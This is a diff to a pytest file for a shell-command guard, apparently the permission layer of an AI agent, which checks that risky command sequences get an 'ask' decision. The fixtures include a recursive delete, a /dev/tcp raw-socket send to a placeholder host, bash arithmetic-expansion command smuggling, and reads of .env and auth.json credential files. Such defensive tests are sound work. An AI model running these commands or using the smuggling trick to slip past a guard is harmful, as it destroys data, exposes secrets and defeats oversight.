@@ -209,12 +209,30 @@ def test_other_scripts_are_no_deception(text: str) -> None:
         (("set -- rm -r y", '"$@"'), "recursive-delete"),
         (("exec 3<>/dev/tcp/h/1", "cat README >&3"), "raw-socket"),
         (("python3 gen.py > s.sh", "sh s.sh"), "written-code"),
+        (("declare -i y", "y='a[$(touch z)]'"), "arithmetic-code"),
+        (("x='a[$(touch z)]'", "y=x", "echo $((y))"), "arithmetic-code"),
     ],
 )
 def test_a_session_is_remembered(texts: tuple[str, ...], rule: str) -> None:
     decision = session(*texts)
     assert (decision.action, decision.rule) == ("ask", rule)
     assert judge(texts[-1]).rule != rule or texts[-1].startswith("rm ")
+
+
+@pytest.mark.parametrize(
+    ("text", "action"),
+    [
+        ("cat /srv/own/.env", "ask"),
+        ("cd /srv/own && cat .env", "ask"),
+        ("cp /srv/own/auth.json x", "ask"),
+        ("cat /srv/own/.e*", "ask"),
+        ("echo x > /srv/own/config.yaml", "ask"),
+        ("cat /srv/own/config.yaml", "allow"),
+        ("cat /srv/owner/notes", "allow"),
+    ],
+)
+def test_hermes_own_directory_may_be_anywhere(text: str, action: str) -> None:
+    assert judge(text, agent_home="/srv/own").action == action
 
 
 def test_a_subshell_leaves_the_session_alone() -> None:
